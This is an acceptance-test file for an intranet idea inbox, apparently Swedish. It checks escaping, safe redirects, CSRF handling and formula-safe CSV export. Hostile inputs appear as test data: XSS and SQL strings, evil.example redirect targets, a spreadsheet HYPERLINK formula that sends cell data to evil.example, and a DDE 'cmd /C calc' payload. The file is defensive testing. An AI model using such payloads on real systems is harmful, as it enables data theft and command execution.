/**
 * Acceptance tests of issue 3 for the HTML side: sign-in page and its `return`, demo pages with the
 * widget, the inbox (access, filters, escaping, status with CSRF, CSV safe against formulas).
 */
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { get } from 'node:http';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RemoteIdea } from '../../shared/domain/idea';
import { startTestIntranet, type TestIntranet, type TestLogin } from '../support/intranet';

let intranet: TestIntranet;
let anna: TestLogin;
let ivan: TestLogin;
let widgetDir: string;

beforeAll(async () => {
  widgetDir = mkdtempSync(join(tmpdir(), 'idesluss-widget-'));
  writeFileSync(join(widgetDir, 'idesluss-widget.js'), 'export const built = true;\n');
  intranet = await startTestIntranet({ widgetDir });
  [anna, ivan] = await Promise.all([intranet.login('anna'), intranet.login('ivan')]);
});
afterAll(async () => {
  await intranet.close();
  rmSync(widgetDir, { recursive: true, force: true });
});

const page = (path: string, who?: TestLogin, init: RequestInit = {}) =>
  intranet.fetch(`${intranet.url}${path}`, { redirect: 'manual', ...init, headers: { ...(who ? { Cookie: who.cookie } : {}), ...(init.headers as Record<string, string>) } });

async function putIdea(who: TestLogin, body: Record<string, unknown>): Promise<RemoteIdea> {
  const r = await intranet.fetch(`${intranet.apiBase}/ideas/${randomUUID()}`, {
    method: 'PUT',
    headers: { Cookie: who.cookie, 'Content-Type': 'application/json', 'X-Idesluss-Client': 'test/1' },
    body: JSON.stringify({ description: '', ...body }),
  });
  expect(r.status).toBe(201);
  return (await r.json()) as RemoteIdea;
}

const HOSTILE_TITLE = `<script>alert("t")</script><img src=x onerror=alert(1)> '; DROP TABLE ideas; --`;
const HOSTILE_DESCRIPTION = `=HYPERLINK("http://evil.example/?"&A1,"klick")\n<b onmouseover=alert(1)>fet</b>`;

describe('demo pages', () => {
  it.each([
    ['/', 'launcher', undefined],
    ['/nyheter/digital-signering', 'launcher', undefined],
    ['/utmaningar/mindre-matsvinn', 'inline', 'mindre-matsvinn'],
  ])('%s is Swedish and embeds the widget (%s)', async (path, mode, challenge) => {
    const r = await page(path);
    expect(r.status).toBe(200);
    expect(r.headers.get('Content-Security-Policy')).toContain("script-src 'self'");
    expect(r.headers.get('Content-Security-Policy')).not.toContain('unsafe-inline'); // the widget's styles need none
    expect(r.headers.get('Content-Security-Policy')).toContain("frame-ancestors 'none'");
    expect(r.headers.get('X-Frame-Options')).toBe('DENY'); // no page in a frame, IE mode included
    const text = await r.text();
    expect(text).toContain('<html lang="sv">');
    expect(text).toContain('<script type="module" src="/widget/idesluss-widget.js"></script>');
    const tag = challenge
      ? `<idesluss-widget mode="inline" challenge="${challenge}" api-base="/api/idesluss/v1"></idesluss-widget>`
      : `<idesluss-widget mode="${mode}" api-base="/api/idesluss/v1"></idesluss-widget>`;
    expect(text).toContain(tag);
  });

  it('names its icon, and answers /favicon.ico too (a browser asks for it unbidden) rather than a 404', async () => {
    expect(await (await page('/')).text()).toContain('<link rel="icon" href="/favicon.svg" type="image/svg+xml">');
    for (const path of ['/favicon.svg', '/favicon.ico']) {
      const r = await page(path);
      expect(r.status, path).toBe(200);
      expect(r.headers.get('Content-Type'), path).toBe('image/svg+xml');
      expect(await r.text(), path).toMatch(/^<svg xmlns="http:\/\/www.w3.org\/2000\/svg"/);
    }
  });

  it('serves the built widget at /widget/ and refuses paths outside it', async () => {
    const r = await page('/widget/idesluss-widget.js');
    expect(r.status).toBe(200);
    expect(r.headers.get('Content-Type')).toMatch(/^text\/javascript/);
    expect(await r.text()).toContain('built = true');
    for (const path of ['/widget/../package.json', '/widget/%2e%2e/%2e%2e/package.json', '/widget/..%2fpackage.json', '/widget/nope.js']) {
      expect((await page(path)).status, path).toBe(404);
    }
  });

  it('serves the widget compressed, brotli before gzip, each with its own ETag, and as built to a client that takes neither', async () => {
    const raw = (encoding: string) => new Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: Buffer }>((resolve, reject) => {
      // node:http, not fetch: fetch decompresses and hides Content-Encoding's effect on the bytes.
      const url = new URL(`${intranet.url}/widget/idesluss-widget.js`);
      get({ host: url.hostname, port: url.port, path: url.pathname, headers: { 'Accept-Encoding': encoding } }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks) }));
      }).on('error', reject);
    });
    const br = await raw('gzip, deflate, br');
    expect([br.status, br.headers['content-encoding'], br.headers.vary]).toEqual([200, 'br', 'Accept-Encoding']);
    expect(brotliDecompressSync(br.body).toString()).toContain('built = true');
    const gz = await raw('gzip;q=1.0');
    expect(gz.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(gz.body).toString()).toContain('built = true');
    expect(gz.headers.etag).not.toBe(br.headers.etag);
    const plain = await raw('identity');
    expect(plain.headers['content-encoding']).toBeUndefined();
    expect(plain.body.toString()).toContain('built = true');
  });

  it('lets a browser revalidate the widget: an ETag, then 304 without the body until the build changes', async () => {
    const first = await page('/widget/idesluss-widget.js');
    const tag = first.headers.get('ETag');
    expect(tag).toMatch(/^"[0-9a-f]+"$/);
    expect(first.headers.get('Cache-Control')).toBe('no-cache');
    const again = await fetch(`${intranet.url}/widget/idesluss-widget.js`, { headers: { 'If-None-Match': tag! } });
    expect(again.status).toBe(304);
    expect(await again.text()).toBe('');
    writeFileSync(join(widgetDir, 'idesluss-widget.js'), 'export const built = 2;\n');
    try {
      const rebuilt = await fetch(`${intranet.url}/widget/idesluss-widget.js`, { headers: { 'If-None-Match': tag! } });
      expect(rebuilt.status).toBe(200);
      expect(await rebuilt.text()).toContain('built = 2');
    } finally {
      writeFileSync(join(widgetDir, 'idesluss-widget.js'), 'export const built = true;\n');
    }
  });

  it('pages still work when the widget is not built (the script is a 404)', async () => {
    const bare = await startTestIntranet({ widgetDir: join(widgetDir, 'missing') });
    try {
      expect((await fetch(`${bare.url}/`)).status).toBe(200);
      const missing = await fetch(`${bare.url}/widget/idesluss-widget.js`);
      expect(missing.status).toBe(404);
      expect(await missing.text()).toContain('npm run build:widget');
    } finally {
      await bare.close();
    }
  });

  it('another file under /widget/ is a plain 404, not "the widget is not built"', async () => {
    const r = await page('/widget/idesluss-widget.d.ts');
    expect(r.status).toBe(404);
    expect(await r.text()).not.toContain('inte byggd');
  });

  it('an unknown challenge is a 404 page with its id escaped', async () => {
    const r = await page('/utmaningar/%3Cscript%3Ex');
    expect(r.status).toBe(404);
    expect(await r.text()).not.toContain('<script>x');
  });
});

describe('the main menu', () => {
  it('marks the link to this page as the current page, and a section’s link from a page below it only as current', async () => {
    const list = await (await page('/utmaningar')).text();
    expect(list).toContain('<a href="/utmaningar" aria-current="page">');
    const one = await (await page('/utmaningar/mindre-matsvinn')).text();
    expect(one).toContain('<a href="/utmaningar" aria-current="true">');
    expect(one).not.toContain('aria-current="page"');
    expect(await (await page('/')).text()).toContain('<a href="/" aria-current="page">');
    expect(one).not.toContain('<a href="/" aria-current');
    // An inbox error page (an idea that is not there) is below the inbox, whatever list it leads back to.
    for (const query of ['', '?status=received']) {
      const missing = await page(`/inkorg/ideer/00000000-0000-4000-8000-000000000000${query}`, ivan);
      expect(missing.status).toBe(404);
      expect(await missing.text()).toContain('<a href="/inkorg" aria-current="true">');
    }
  });
});

describe('sign-in page', () => {
  it('is a labelled Swedish form that keeps a safe return path, escaped', async () => {
    const r = await page('/logga-in?return=%2Finkorg%3Fstatus%3Dreceived%22%3E%3Cscript%3E');
    const text = await r.text();
    expect(text).toContain('<label for="username">Användarnamn</label>');
    expect(text).toContain('<label for="password">Lösenord</label>');
    expect(text).toContain('autocomplete="current-password"');
    expect(text).not.toContain('"><script>');
    expect(text).toMatch(/name="return" value="\/inkorg\?status=received(%22|&quot;)/);
  });

  const formLogin = (username: string, password: string, ret: string, origin?: string) =>
    page('/auth/login', undefined, {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...(origin ? { Origin: origin } : {}) },
      body: new URLSearchParams({ username, password, return: ret }).toString(),
    });

  it.each([
    ['/inkorg', '/inkorg'],
    ['//evil.example/x', '/'],
    ['/\\evil.example', '/'],
    ['https://evil.example/', '/'],
    ['javascript:alert(1)', '/'],
    ['/ok?x=1#frag', '/ok?x=1#frag'],
  ])('the form redirects to %s only if same-origin (→ %s)', async (ret, expected) => {
    const r = await formLogin('ivan', 'demo', ret);
    expect(r.status).toBe(303);
    expect(r.headers.get('Location')).toBe(expected);
    expect(r.headers.get('Set-Cookie')).toMatch(/HttpOnly/i);
  });

  it('a wrong password shows an announced error and keeps the name, escaped', async () => {
    const r = await formLogin('<b>anna</b>', 'fel', '/');
    expect(r.status).toBe(401);
    const text = await r.text();
    expect(text).toContain('role="alert"');
    expect(text).toContain('value="&lt;b&gt;anna&lt;/b&gt;"');
    // The new page's title leads with the error: a screen reader says it first.
    expect(text).toContain('<title>Fel användarnamn eller lösenord. Logga in – Intranätet</title>');
  });

  it('names whoever is signed in already, with "Logga ut", as every other page does', async () => {
    const text = await (await page('/logga-in', anna)).text();
    expect(text).toContain('Inloggad som Anna');
    expect(text).toContain('action="/auth/logout"');
    // Also after a mistyped password while switching to another account: Anna is still signed in.
    const failed = await page('/auth/login', anna, {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ username: 'ivan', password: 'fel', return: '/' }).toString(),
    });
    expect(failed.status).toBe(401);
    expect(await failed.text()).toContain('Inloggad som Anna');
  });

  it('tells a throttled user, in Swedish, how long to wait', async () => {
    for (let i = 0; i < 10; i++) expect((await formLogin('bertil', `fel${i}`, '/')).status).toBe(401);
    const r = await formLogin('bertil', 'demo', '/');
    expect(r.status).toBe(429);
    expect(Number(r.headers.get('Retry-After'))).toBeGreaterThan(0);
    expect(await r.text()).toMatch(/role="alert">För många misslyckade försök\. Vänta \d+ minuter/);
  });

  it('refuses a sign-in form above 64 KiB with 413: a page for a browser, a problem for a program', async () => {
    const r = await formLogin('anna', 'x'.repeat(70 * 1024), '/');
    expect(r.status).toBe(413);
    expect(r.headers.get('Content-Type')).toMatch(/^text\/html/);
    expect(await r.text()).toContain('<h1>Formuläret är för stort</h1>');
    const json = await page('/auth/login', undefined, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ username: 'anna', password: 'x'.repeat(70 * 1024) }) });
    expect(json.status).toBe(413);
    expect(json.headers.get('Content-Type')).toMatch(/^application\/problem\+json/);
  });

  it('refuses a sign-in form posted from another site, with a page in the person\'s language', async () => {
    const r = await formLogin('anna', 'demo', '/', 'https://evil.example');
    expect(r.status).toBe(403);
    const refused = await r.text();
    expect(refused).toContain('<h1>Formuläret kom från en annan webbplats</h1>');
    // Its sign-in link returns to a page, not to the address the form was posted to (a POST-only path: a 404).
    const inboxForm = await page('/inkorg/ideer/abc/status', undefined, { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', Origin: 'https://evil.example' }, body: 'status=declined' });
    expect(await inboxForm.text()).toContain('href="/logga-in?return=%2F"');
    const en = await page('/auth/login?lang=en', undefined, {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', Origin: 'https://evil.example' },
      body: new URLSearchParams({ username: 'anna', password: 'demo', return: '/' }).toString(),
    });
    expect(await en.text()).toContain('<h1>The form came from another website</h1>');
  });
});

describe('inbox', () => {
  let hostile: RemoteIdea;
  let plain: RemoteIdea;

  beforeAll(async () => {
    hostile = await putIdea(anna, {
      title: HOSTILE_TITLE,
      description: HOSTILE_DESCRIPTION,
      kind: 'challenge',
      challengeId: 'mindre-matsvinn',
      source: { url: 'https://example.com/a?b=<c>&d="e"', title: '"><svg onload=alert(1)>', quote: '@SUM(1+1)*cmd|" /C calc"!A0' },
    });
    plain = await putIdea(anna, { title: '-2+3 grader i kylrummet', kind: 'good-example', anonymous: true });
  });

  it('sends signed-out users to sign-in and refuses non-team users with 403', async () => {
    const out = await page('/inkorg?status=received');
    expect(out.status).toBe(303);
    expect(out.headers.get('Location')).toBe('/logga-in?return=%2Finkorg%3Fstatus%3Dreceived');
    // An export returns to the list it was asked from: after sign-in, a download would leave the person on the form.
    const exported = await page('/inkorg/export.csv?status=received&for=excel');
    expect(exported.headers.get('Location')).toBe('/logga-in?return=%2Finkorg%3Fstatus%3Dreceived');

    for (const path of ['/inkorg', `/inkorg/ideer/${hostile.id}`, '/inkorg/export.csv']) {
      const r = await page(path, anna);
      expect(r.status, path).toBe(403);
      expect(await r.text()).not.toContain('DROP TABLE');
    }
  });

  it('says on the sign-in page when the session ran out, with the cookie a browser still holds then', async () => {
    let now = Date.parse('2026-11-26T08:00:00Z');
    const local = await startTestIntranet({ now: () => now, sessionTtlMs: 60 * 60 * 1000 });
    try {
      const signIn = await local.fetch(`${local.url}/auth/login`, {
        method: 'POST', redirect: 'manual',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ username: 'ivan', password: 'demo', return: '/inkorg' }).toString(),
      });
      const set = signIn.headers.get('Set-Cookie')!;
      const maxAge = Number(/Max-Age=(\d+)/i.exec(set)?.[1]);
      expect(maxAge).toBeGreaterThan(60 * 60); // outlives the session, so the browser still sends it afterwards
      const cookie = set.split(';')[0]!;
      const inbox = () => local.fetch(`${local.url}/inkorg`, { redirect: 'manual', headers: { Cookie: cookie } });
      expect((await inbox()).status).toBe(200);
      now += 2 * 60 * 60 * 1000;
      const ended = await inbox();
      expect(ended.headers.get('Location')).toBe('/logga-in?return=%2Finkorg&utgangen=1');
      const page = await (await local.fetch(`${local.url}${ended.headers.get('Location')!}`)).text();
      expect(page).toContain('<p class="card">Din inloggning har gått ut. Logga in igen för att fortsätta.</p>');
      expect(page).toContain('href="/logga-in?return=%2Finkorg&amp;utgangen=1&amp;lang=en"'); // kept in English too
      expect(await (await local.fetch(`${local.url}/logga-in?return=%2Finkorg`)).text()).not.toContain('har gått ut');
      // Signing out deletes the cookie: no "ran out" after that.
      const out = await local.fetch(`${local.url}/auth/logout`, { method: 'POST', redirect: 'manual', headers: { Cookie: cookie } });
      expect(out.headers.get('Set-Cookie')).toMatch(/Max-Age=0/i);
    } finally {
      await local.close();
    }
  });

  it('lists ideas with markup and SQL-looking text escaped, never live', async () => {
    const r = await page('/inkorg', ivan);
    expect(r.status).toBe(200);
    const text = await r.text();
    expect(text).toContain('&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt; &#39;; DROP TABLE ideas; --');
    expect(text).not.toContain('<script>alert');
    expect(text).not.toContain('<img src=x');
    expect(text).toContain('Anonym');
  });

  it('filters by status, kind and challenge', async () => {
    const list = async (query: string) => await (await page(`/inkorg${query}`, ivan)).text();
    expect(await list('?kind=good-example')).toContain('-2+3 grader');
    expect(await list('?kind=good-example')).not.toContain('DROP TABLE');
    expect(await list('?challenge=mindre-matsvinn')).toContain('DROP TABLE');
    expect(await list('?challenge=mindre-matsvinn')).not.toContain('-2+3 grader');
    expect(await list('?status=declined')).not.toContain('-2+3 grader');
    expect(await list('?status=received&kind=challenge')).toContain('DROP TABLE');
    expect(await list('?status=%3Cscript%3E')).not.toContain('<script>');
  });

  it('opens one idea: text escaped, the source a link only because it is http(s)', async () => {
    const text = await (await page(`/inkorg/ideer/${hostile.id}`, ivan)).text();
    expect(text).not.toMatch(/<svg|<b onmouseover|<script>alert/);
    expect(text).toContain('&lt;b onmouseover=alert(1)&gt;fet&lt;/b&gt;');
    expect(text).toContain('href="https://example.com/a?b=%3Cc%3E&amp;d=%22e%22"');
    expect((await page(`/inkorg/ideer/${randomUUID()}`, ivan)).status).toBe(404);
  });

  it('never turns a stored non-http source address into a link (data written before validation, or by hand)', async () => {
    const db = new Database(join(intranet.dataDir, 'idesluss.db'));
    try {
      db.prepare('UPDATE ideas SET source_url = ?, source_title = ? WHERE id = ?').run('javascript:alert(1)', 'Klicka', plain.id);
    } finally {
      db.close();
    }
    const text = await (await page(`/inkorg/ideer/${plain.id}`, ivan)).text();
    expect(text).toContain('Klicka');
    expect(text).not.toMatch(/href="javascript:/i);
    expect(text).not.toContain('javascript:alert(1)</a>');
  });

  it('sets a status only with the session’s CSRF token and from the same origin', async () => {
    const detail = await (await page(`/inkorg/ideer/${plain.id}`, ivan)).text();
    const csrf = /name="csrf" value="([^"]+)"/.exec(detail)?.[1];
    expect(csrf).toBeTruthy();
    const post = (body: Record<string, string>, who: TestLogin, headers: Record<string, string> = {}) =>
      page(`/inkorg/ideer/${plain.id}/status`, who, {
        method: 'POST',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...headers },
        body: new URLSearchParams(body).toString(),
      });
    // Without the page's token nothing is saved: the choice goes back to the idea's page, selected, with why.
    for (const token of [undefined, 'x'.repeat(csrf!.length), 'é'.repeat(csrf!.length)]) { // é: same length, more bytes
      const refused = await post({ status: 'declined', ...(token ? { csrf: token } : {}) }, ivan);
      expect(refused.status).toBe(303);
      expect(refused.headers.get('Location')).toBe(`/inkorg/ideer/${plain.id}?valj=declined`);
    }
    expect((await post({ status: 'declined', csrf: csrf! }, ivan, { Origin: 'https://evil.example' })).status).toBe(403);
    expect((await post({ status: 'declined', csrf: csrf! }, anna)).status).toBe(403);
    const forged = await post({ status: 'bogus' }, ivan);
    expect(forged.status).toBe(403);
    const bogus = await post({ status: 'bogus', csrf: csrf! }, ivan);
    expect(bogus.status).toBe(400);
    // An error page leads back to the idea, and its language link to a page that exists (not the form's address).
    const bogusPage = await bogus.text();
    expect(bogusPage).toContain(`<a href="/inkorg/ideer/${plain.id}">Tillbaka till idén</a>`);
    expect(bogusPage).toContain(`href="/inkorg/ideer/${plain.id}?lang=en"`);
    expect(bogusPage).not.toContain('/status?lang=en');
    const notSaved = await (await page(`/inkorg/ideer/${plain.id}?valj=declined`, ivan)).text();
    expect(notSaved).toContain('Statusen sparades inte: sidan öppnades innan du loggade in senast.');
    expect(notSaved).toContain('<option value="declined" selected>');
    // A broken multipart body is the sender's error: 400 with the page's message, not a 500.
    const broken = await page(`/inkorg/ideer/${plain.id}/status`, ivan, {
      method: 'POST',
      headers: { 'Content-Type': 'multipart/form-data' },
      body: 'garbage',
    });
    expect(broken.status).toBe(400);
    expect(await broken.text()).toContain('<!doctype html>');

    const ok = await post({ status: 'piloting', csrf: csrf! }, ivan, { Origin: intranet.origin });
    expect(ok.status).toBe(303);
    expect(ok.headers.get('Location')).toBe(`/inkorg/ideer/${plain.id}?sparad=1`);
    const mine = (await (await intranet.fetch(`${intranet.apiBase}/ideas?mine=true`, { headers: { Cookie: anna.cookie } })).json()) as RemoteIdea[];
    expect(mine.find((x) => x.id === plain.id)?.status).toBe('piloting');
    expect(await (await page('/inkorg?status=piloting', ivan)).text()).toContain('-2+3 grader');
    const after = await (await page(`/inkorg/ideer/${plain.id}?sparad=1`, ivan)).text();
    expect(after).toContain('Statusen är sparad.');
    expect(after).toMatch(/<li>[^<]*: Testas \(Ivan Innovatör\)<\/li>/);
  });

  it('does not overwrite a status someone else set since the page was loaded, and logs a status once', async () => {
    const idea = await putIdea(anna, { title: 'Två i teamet samtidigt' });
    const detail = await (await page(`/inkorg/ideer/${idea.id}?sida=3`, ivan)).text();
    const csrf = /name="csrf" value="([^"]+)"/.exec(detail)![1]!;
    expect(detail).toContain('<input type="hidden" name="was" value="received">');
    expect(detail).toContain(`action="/inkorg/ideer/${idea.id}/status?sida=3"`);
    expect(detail).toContain('<a href="/inkorg?sida=3">');
    const post = (body: Record<string, string>, query = '') =>
      page(`/inkorg/ideer/${idea.id}/status${query}`, ivan, {
        method: 'POST',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ csrf, ...body }).toString(),
      });
    // Tab B sets "Införd"; tab A, loaded before it, then chooses "Under bedömning".
    expect((await post({ status: 'implemented', was: 'received' })).status).toBe(303);
    const stale = await post({ status: 'in-review', was: 'received' }, '?sida=3');
    expect(stale.status).toBe(303);
    expect(stale.headers.get('Location')).toBe(`/inkorg/ideer/${idea.id}?sida=3&valj=in-review&andrad=1`);
    const shown = await (await page(stale.headers.get('Location')!, ivan)).text();
    expect(shown).toContain('den har ändrats till ”Införd” sedan sidan öppnades');
    // The language link keeps the notice and the choice.
    expect(shown).toContain(`href="/inkorg/ideer/${idea.id}?sida=3&amp;valj=in-review&amp;andrad=1&amp;lang=en"`);
    expect(shown).toContain('<option value="in-review" selected>');
    expect(shown).toContain('<input type="hidden" name="was" value="implemented">');
    // A double click: the second press finds the status it sets already there, and adds no second line.
    expect((await post({ status: 'implemented', was: 'received' })).headers.get('Location')).toBe(`/inkorg/ideer/${idea.id}?sparad=1`);
    const history = (await (await page(`/inkorg/ideer/${idea.id}`, ivan)).text()).match(/: Införd \(Ivan Innovatör\)/g);
    expect(history).toHaveLength(1);
    // The status the person saw is still the one there: saved.
    expect((await post({ status: 'in-review', was: 'implemented' })).headers.get('Location')).toBe(`/inkorg/ideer/${idea.id}?sparad=1`);
  });

  it('keeps the list\'s page on the way to an idea, and says when no idea matches', async () => {
    await Promise.all(Array.from({ length: 51 }, (_, i) => putIdea(anna, { title: `Sidbyte ${i}`, kind: 'good-example' })));
    const second = await (await page('/inkorg?kind=good-example&sida=2', ivan)).text();
    expect(second).toMatch(/href="\/inkorg\/ideer\/[\w-]+\?kind=good-example&amp;sida=2"/);
    expect(second).toMatch(/Visar 51–\d+ av \d+ idéer\./);
    // A page past the last shows the last; a page number that is not one shows the first.
    expect(await (await page('/inkorg?kind=good-example&sida=99', ivan)).text()).toMatch(/Visar 51–\d+ av \d+ idéer\./);
    for (const sida of ['abc', '0', '-2']) expect(await (await page(`/inkorg?kind=good-example&sida=${sida}`, ivan)).text()).toMatch(/Visar 1–50 av \d+ idéer\./);
    expect(await (await page('/inkorg?q=finns-inte-n%C3%A5gonstans', ivan)).text()).toContain('Inga idéer matchar filtret.');
    const unknown = await (await page('/inkorg?challenge=borttagen-utmaning', ivan)).text();
    expect(unknown).toContain('<option value="borttagen-utmaning" selected>borttagen-utmaning</option>');
  });

  it('exports CSV (RFC 4180) where no cell can run as a formula and markup is plain text', async () => {
    const r = await page('/inkorg/export.csv?challenge=mindre-matsvinn', ivan);
    expect(r.status).toBe(200);
    expect(r.headers.get('Content-Type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(r.headers.get('Content-Disposition')).toMatch(/^attachment; filename="idesluss-ideer-\d{4}-\d\d-\d\d\.csv"$/);
    const excel = await page('/inkorg/export.csv?for=excel', ivan);
    expect(excel.headers.get('Content-Disposition')).toMatch(/^attachment; filename="idesluss-ideer-\d{4}-\d\d-\d\d-excel\.csv"$/);
    const csv = await r.text();
    const rows = parseCsv(csv.replace(/^\ufeff/, ''));
    expect(rows[0]![0]).toBe('id');
    const row = rows.find((cells) => cells[0] === hostile.id)!;
    expect(row).toBeDefined();
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(row[1]).toBe(HOSTILE_TITLE);
    expect(row[2]).toBe(`'${HOSTILE_DESCRIPTION}`);
    expect(row[11]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(rows.some((cells) => cells[0] === plain.id)).toBe(false);

    const all = parseCsv((await (await page('/inkorg/export.csv', ivan)).text()).replace(/^\ufeff/, ''));
    const anonymous = all.find((cells) => cells[0] === plain.id)!;
    expect(anonymous[1]).toBe(`'-2+3 grader i kylrummet`);
    expect(anonymous[7]).toBe('');
  });
});

/** A strict RFC 4180 reader: every field quoted, CRLF between records. */
function parseCsv(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    expect(text[i]).toBe('"');
    let value = '';
    i++;
    for (;;) {
      const quote = text.indexOf('"', i);
      value += text.slice(i, quote);
      i = quote + 1;
      if (text[i] === '"') {
        value += '"';
        i++;
      } else break;
    }
    row.push(value);
    if (text[i] === ',') i++;
    else {
      expect(text.slice(i, i + 2)).toBe('\r\n');
      i += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}
